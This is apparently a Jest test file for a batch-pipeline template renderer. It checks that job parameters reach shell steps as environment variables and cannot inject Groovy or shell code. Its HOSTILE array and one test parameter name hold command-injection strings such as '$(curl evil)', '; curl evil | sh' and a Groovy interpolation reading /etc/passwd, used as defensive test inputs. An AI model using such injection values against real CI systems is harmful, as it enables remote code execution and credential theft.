import {
  BATCH_PIPELINE_TEMPLATE_VERSION,
  BatchJobSpec,
  renderBatchJobConfigXml,
  renderBatchPipelineScript,
  templateInfoOf,
  templateMark,
  templateMarkOf,
  templateVersionOf,
} from './jobTemplates';

const HOSTILE = [
  '2026-01-01; curl evil | sh',
  '$(curl evil)',
  '`curl evil`',
  `it's "quoted" \\' evil`,
  'line\ncurl evil',
  '${new File("/etc/passwd").text} evil',
  "'; sh 'curl evil'; '",
];

const spec: BatchJobSpec = {
  folder: 'payments-settlement',
  name: 'nightly-import',
  agentType: 'batch',
  application: 'payments-batch',
  batchName: 'import-settlements',
  parameters: [
    { name: 'DATE', type: 'string', defaultValue: HOSTILE[0] },
    { name: 'MODE', type: 'choice', choices: HOSTILE },
    { name: 'NOTE', type: 'text', defaultValue: HOSTILE[4], description: HOSTILE[5] },
    { name: 'DRY_RUN', type: 'boolean', defaultValue: true },
    { name: 'DB_PASSWORD', type: 'password' },
  ],
};
const DEV = { name: 'DEV', agentLabel: 'DEV-batch-agent' };

/**
 * Splits a Groovy script into code and string literals, the way Groovy
 * reads it: `//` comments, `'…'` and `'''…'''` with backslash escapes. A
 * double-quoted (interpolating) string is refused outright.
 */
function groovyTokens(script: string): { code: string; literals: string[] } {
  let code = '';
  const literals: string[] = [];
  let i = 0;
  while (i < script.length) {
    if (script.startsWith('//', i)) {
      const end = script.indexOf('\n', i);
      i = end < 0 ? script.length : end;
      continue;
    }
    if (script[i] === '"') throw new Error(`interpolating string at ${i}: ${script.slice(i, i + 40)}`);
    if (script[i] !== "'") {
      code += script[i++];
      continue;
    }
    const quote = script.startsWith("'''", i) ? "'''" : "'";
    let j = i + quote.length;
    let value = '';
    while (!script.startsWith(quote, j)) {
      if (j >= script.length) throw new Error(`unterminated literal at ${i}`);
      if (quote === "'" && script[j] === '\n') throw new Error(`newline in a literal at ${i}`);
      if (script[j] === '\\') {
        const e = script[j + 1];
        if (e === 'u') {
          value += String.fromCharCode(parseInt(script.slice(j + 2, j + 6), 16));
          j += 6;
          continue;
        }
        value += ({ n: '\n', r: '\r', t: '\t' } as Record<string, string>)[e] ?? e;
        j += 2;
      } else value += script[j++];
    }
    literals.push(value);
    code += ' LITERAL ';
    i = j + quote.length;
  }
  return { code, literals };
}

describe('the standard batch pipeline template', () => {
  it('passes parameters as data: environment variables in single-quoted shell steps', () => {
    const script = renderBatchPipelineScript(spec, DEV);
    const { code, literals } = groovyTokens(script);
    expect(script).not.toContain('${params');
    // Every sh step takes a single-quoted literal: Groovy substitutes nothing into shell text.
    expect(code).not.toMatch(/\bsh\s*\(?\s*[^\sL(]/);
    const shell = literals.filter(l => l.includes('./bin/batch'));
    expect(shell).toHaveLength(2);
    const run = shell.find(l => l.includes('batch run'))!;
    expect(run).toContain('set +x');
    for (const name of ['DATE', 'MODE', 'NOTE', 'DRY_RUN', 'DB_PASSWORD']) {
      expect(run).toContain(`--param "${name}=$${name}"`);
    }
    // Tracing goes off before any value is expanded.
    expect(run.indexOf('set +x')).toBeLessThan(run.indexOf('$DATE'));
    // Defaults, choices and descriptions live in the job's parameter definitions, never in the script.
    for (const value of HOSTILE) expect(script).not.toContain(value);
    expect(script).not.toMatch(/evil/);
  });

  it('keeps hostile names in string literals, never as code', () => {
    for (const hostile of HOSTILE) {
      const script = renderBatchPipelineScript(
        { ...spec, application: hostile, batchName: hostile },
        { name: hostile, agentLabel: hostile },
      );
      const { code, literals } = groovyTokens(script);
      expect(code).not.toMatch(/evil|\$\(|`|;/);
      // The value comes back whole from its literal.
      expect(literals.filter(l => l === hostile)).toHaveLength(4);
      // The shell steps read it from the environment.
      for (const step of literals.filter(l => l.includes('./bin/batch'))) {
        expect(step).not.toMatch(/evil/);
      }
    }
  });

  it('refuses parameter names that are not shell variable names', () => {
    expect(() =>
      renderBatchPipelineScript(
        { ...spec, parameters: [{ name: 'X=1 $(curl evil)', type: 'string' }] },
        DEV,
      ),
    ).toThrow("parameter 'X=1 $(curl evil)': names are letters, digits and '_' and do not start with a digit");
  });

  it('marks the rendering with the template version, so older jobs can be told', () => {
    const xml = renderBatchJobConfigXml(spec, DEV);
    expect(templateVersionOf(xml)).toBe(BATCH_PIPELINE_TEMPLATE_VERSION);
    expect(BATCH_PIPELINE_TEMPLATE_VERSION).toBeGreaterThan(1);
    // What the first template rendered (before versions): version 1.
    const v1 =
      '<script>// Standard batch pipeline, generated by the Batch Jobs portal. Edit the template, not this job.\npipeline {}</script>';
    expect(templateVersionOf(v1)).toBe(1);
    expect(templateVersionOf('<script>pipeline { agent any }</script>')).toBeUndefined();
  });

  it('tells other templates apart by the id in their mark', () => {
    const mark = templateMark({ template: 'nightly-etl', version: 3 });
    expect(mark).toBe('batch-jobs-template: nightly-etl@3');
    expect(templateMarkOf(`// ETL (${mark})\npipeline {}`)).toEqual({
      template: 'nightly-etl',
      version: 3,
    });
    expect(templateVersionOf(mark)).toBe(3);
    // The standard template writes its mark as it always did.
    expect(templateMarkOf(renderBatchPipelineScript(spec, DEV))).toEqual({
      template: 'standard-batch-pipeline',
      version: BATCH_PIPELINE_TEMPLATE_VERSION,
    });
    expect(templateInfoOf(2, { id: 'nightly-etl', current: 3 })).toEqual({
      version: 2,
      current: 3,
      outdated: true,
      template: 'nightly-etl',
    });
    expect(templateInfoOf(BATCH_PIPELINE_TEMPLATE_VERSION)).toEqual({
      version: BATCH_PIPELINE_TEMPLATE_VERSION,
      current: BATCH_PIPELINE_TEMPLATE_VERSION,
      outdated: false,
    });
  });
});
